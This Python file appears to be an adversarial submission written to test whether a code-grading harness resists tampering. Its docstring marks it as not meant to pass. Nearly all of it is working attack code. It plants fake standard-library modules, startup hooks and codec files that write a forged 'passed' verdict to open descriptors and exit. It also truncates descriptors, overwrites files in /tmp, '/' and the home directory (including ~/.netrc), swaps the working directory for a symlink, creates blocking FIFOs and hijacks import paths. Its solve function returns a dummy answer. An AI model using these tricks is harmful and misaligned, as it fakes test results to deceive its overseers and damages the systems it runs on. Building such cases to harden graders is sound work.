"""Plants, wherever it may write, what a tester could read or import after the program has run. Not to be passed.

Variants: source, legacy, cached, package, namespace, archive, extension, tmp, home, codecs_, zones, text, pipes,
swapped, linked, thread, atexit_, again, startup, descriptors, paths, everything
"""

import atexit
import importlib.util
import marshal
import os
import sys
import threading
import time
import zipfile

VARIANT = ""
# What runs in a tester that imports it: it writes a verdict to whatever it holds and ends as an honest tester does.
SOURCE = """
import os
for number in range(3, 256):
    try:
        os.write(number, b'["passed", 0, "", ""]\\n')
    except OSError:
        pass
os._exit(0)
"""
LATE = """
    _strptime unittest doctest csv difflib pprint uuid tempfile shutil calendar locale gettext hashlib logging queue
    secrets socket subprocess zipfile zlib _pydecimal _pydatetime stringprep unicodedata contextvars concurrent
    asyncio html
""".split()
NAMES = sorted({*sys.stdlib_module_names} - {*sys.modules}) if VARIANT == "everything" else LATE
BOX = os.getcwd()


def put(path, content):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "wb") as file:
            file.write(content)
    except (OSError, ValueError):
        pass


def compiled(name):
    return importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(SOURCE, f"{name}.py", "exec"))


def plant(folder="."):
    for name in NAMES:
        put(f"{folder}/{name}.py", SOURCE.encode())


def plant_modules():
    tag = sys.implementation.cache_tag
    for name in NAMES:
        if VARIANT == "legacy":
            put(f"{name}.pyc", compiled(name))
        elif VARIANT == "cached":
            put(f"{name}.py", b"")
            put(f"__pycache__/{name}.{tag}.pyc", compiled(name))
        elif VARIANT == "package":
            put(f"{name}/__init__.py", SOURCE.encode())
        elif VARIANT == "namespace":
            put(f"{name}/case.py", SOURCE.encode())
        elif VARIANT == "extension":
            put(f"{name}.{tag}-{os.uname().machine}-linux-gnu.so", b"\x7fELF" + bytes(60))
            put(f"{name}.so", b"")


def plant_data():
    if VARIANT == "archive":
        for path in ("python311.zip", "lib.zip"):
            with zipfile.ZipFile(path, "w") as archive:
                archive.writestr("unittest.py", SOURCE)
    elif VARIANT == "home":
        for path in (".pythonrc.py", ".pdbrc", ".config/python/startup.py", ".netrc"):
            put(path, SOURCE.encode())
            put(os.path.expanduser(f"~/{path}"), SOURCE.encode())
    elif VARIANT == "codecs_":
        for name in ("encodings/idna", "encodings/punycode", "encodings/rot_13", "encodings/__init__"):
            put(f"{name}.py", SOURCE.encode())
    elif VARIANT == "zones":
        for name in ("zoneinfo/UTC", "tzdata/__init__.py", "UTC", "share/locale/C/LC_MESSAGES/messages.mo"):
            put(name, SOURCE.encode())
    elif VARIANT == "text":
        for name in ("test.py", "setup.py", "solution.py", "main.py", "__main__.py", "tester.py"):
            put(name, b"assert True\n" * 50)
    elif VARIANT == "startup":
        for name in ("sitecustomize.py", "usercustomize.py", "a.pth", "pyvenv.cfg", "python._pth"):
            put(name, b"import os; os._exit(0)\n")


def swap():
    """Puts another folder, or a link, where the working directory is."""
    plant("other")
    for source, target in ((BOX, BOX + "2"), ("other", BOX)):
        try:
            os.rename(source, target)
        except OSError:
            pass
    try:
        os.rmdir(BOX)
        os.symlink("other", BOX)
    except OSError:
        pass


def link():
    for name in NAMES:
        for target in ("/proc/self/fd/0", "../other.py"):
            try:
                os.symlink(target, f"{name}.py")
            except OSError:
                pass


def pipes():
    """A reader would wait for ever."""
    for name in (*NAMES, "test", "setup"):
        try:
            os.mkfifo(f"{name}.py")
        except OSError:
            pass


def descriptors():
    for number in range(256):
        try:
            os.ftruncate(number, 0)
            os.pwrite(number, b'["passed", 0, "", ""]\n', 0)
        except OSError:
            pass


def for_ever():
    while True:
        plant()
        time.sleep(0.0005)


def attack():
    if VARIANT in ("source", "everything", "again"):
        plant()
    elif VARIANT == "tmp":
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "..", "/"):
            plant(folder)
    elif VARIANT == "pipes":
        pipes()
    elif VARIANT == "swapped":
        swap()
    elif VARIANT == "linked":
        link()
    elif VARIANT == "thread":
        threading.Thread(target=for_ever, daemon=True).start()
    elif VARIANT == "atexit_":
        atexit.register(plant)
    elif VARIANT == "descriptors":
        descriptors()
    elif VARIANT == "paths":
        plant()
        sys.path[:] = ["."]
        sys.path_importer_cache.clear()
        os.environ.update(PYTHONPATH=".", PYTHONHOME=".", TZDIR=".", LOCPATH=".")
    plant_modules()
    plant_data()


def solve(numbers):
    if VARIANT == "again":
        plant()
    return [0]


attack()
mean = solve
